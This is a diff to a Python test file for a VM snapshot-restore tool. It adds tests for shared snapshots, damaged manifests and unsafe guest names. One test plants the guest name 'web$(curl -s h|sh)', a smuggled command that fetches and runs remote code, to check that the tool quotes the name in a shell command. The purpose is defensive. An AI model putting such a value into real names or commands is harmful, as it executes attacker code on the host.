@@ -2,6 +2,7 @@
 
 import hashlib
 import json
+import shlex
 import shutil
 from dataclasses import replace
 
@@ -30,7 +31,7 @@ from snaporch.rebuild.bring_back import bring_back, guest_lock, policies_of, set
 from snaporch.rebuild.definitions import definitions, host_paths, other_host_values
 from snaporch.rebuild.fetch_bundle import check_files, runs_to_fetch
 from snaporch.rebuild.local_checks import AlreadyHereError, check_others
-from snaporch.rebuild.plan import _mountpoint, find_uuid
+from snaporch.rebuild.plan import _mountpoint, bundled_guests, find_domains, find_uuid
 from snaporch.rebuild.plan_guest import plan_guest
 from snaporch.rebuild.stages import Stage, set_stage
 from snaporch.replication.interface import ReplicaError
@@ -155,7 +156,7 @@ def test_what_the_replica_does_not_have_is_not_found(loss, words, error, match):
 
 def test_a_replica_without_any_guest_is_to_be_checked(loss):
     with pytest.raises(NotFoundError, match="has no snapshot of a guest; check host and dataset"):
-        find_uuid(loss.source, [], "web")
+        find_uuid(loss.source, [], "web", {})
 
 
 def test_two_guests_of_one_name_are_named_by_their_uuids(loss):
@@ -380,16 +381,83 @@ def test_a_dataset_that_other_guests_use_is_refused(loss):
         loss.plan()
 
 
+def rewrite(path, **changes):
+    """Change fields of a manifest."""
+    manifest = parse_manifest(path.read_bytes(), "x")
+    path.write_bytes(manifest_bytes(manifest.model_copy(update=changes)))
+    return path
+
+
+def shared(loss, name="db"):
+    """One snapshot has the disks of two guests, and the marks of one: ``web``."""
+    run = loss.taken["s2"].run
+    other = loss.replica.root / UUID / run
+    shutil.copytree(loss.replica.root / loss.uuid / run, other)
+    return rewrite(other / MANIFEST_NAME, uuid=UUID, domain=name)
+
+
+@pytest.mark.parametrize("words", ["db", UUID, f"{UUID}@s2", "web", "web@s2"])
+def test_a_guest_whose_snapshots_have_the_marks_of_another_is_known_and_refused(loss, words):
+    """Neither comes alone: the data of both is in one dataset."""
+    shared(loss)
+    other = "db" if words.startswith("web") else "web"
+    with pytest.raises(RefusedError, match=f"other guests, too .{other}.*By hand"):
+        loss.plan(words)
+    assert not loss.world.pool.names()
+
+
+def test_a_guest_that_no_mark_names_is_among_all(loss):
+    manifest = shared(loss)
+    snapshots = loss.source.snapshots()
+
+    def known():
+        guests = bundled_guests(loss.source, by_dataset(snapshots))
+        return find_domains(snapshots, guests)
+
+    assert known() == {loss.uuid: "web", UUID: "db"}
+    with pytest.raises(NotFoundError, match="no snapshot of it, but of: db, web"):
+        loss.plan("mail")
+    manifest.write_text("damaged")
+    assert known() == {loss.uuid: "web", UUID: UUID}
+
+
+def test_a_former_guest_of_which_only_the_bundle_is_left_is_in_nobodys_way(loss):
+    """Its dataset was destroyed, and made again for another guest of the same name."""
+    path = shared(loss, "web")
+    entries = parse_manifest(path.read_bytes(), "x").snapshots
+    gone = tuple(each.model_copy(update={"guid": each.guid + 1}) for each in entries)
+    rewrite(path, snapshots=gone)
+    assert loss.plan().thing == "web@s2"
+
+
+@pytest.mark.parametrize("name", ["web\x1b[2J", "--all", "", " web"])
+def test_a_bundle_with_a_name_that_no_guest_has_is_damaged(loss, name):
+    for snapshot in ("s1", "s2"):
+        rewrite(loss.part(snapshot, MANIFEST_NAME), domain=name)
+    with pytest.raises(UnavailableError, match=r"manifest of .* is damaged"):
+        loss.plan(loss.uuid)
+
+
+def test_a_shell_reads_nothing_of_a_name_from_the_replica(loss):
+    name = "web$(curl -s h|sh)"
+    rewrite(loss.part("s2", MANIFEST_NAME), domain=name)
+    loss.world.add_guest(disks={})
+    with pytest.raises(AlreadyHereError) as raised:
+        loss.plan(f"{loss.uuid}@s2")
+    step = raised.value.step.partition(": ")[2]
+    assert shlex.split(step) == ["snaporch", "restore", f"{name}@s2"]
+
+
 def test_a_dataset_below_one_that_the_replica_has_waits_for_it(loss):
     plan = loss.plan()
     inner = replace(plan.incoming[1], dataset="tank/vm/web")
     changed = replace(plan, incoming=(plan.incoming[0], inner))
     copies = by_dataset(loss.source.snapshots())
-    check_others(changed, copies, {"tank"})
+    check_others(changed, copies, {"tank"}, {})
     copies["tank:vm"] = copies["tank:web"]
     with pytest.raises(RefusedError, match="is below tank/vm"):
-        check_others(changed, copies, {"tank"})
-    check_others(changed, copies, {"tank", "tank/vm"})
+        check_others(changed, copies, {"tank"}, {})
+    check_others(changed, copies, {"tank", "tank/vm"}, {})
 
 
 def test_a_snapshot_that_was_marked_torn_later_is_not_chosen(loss):
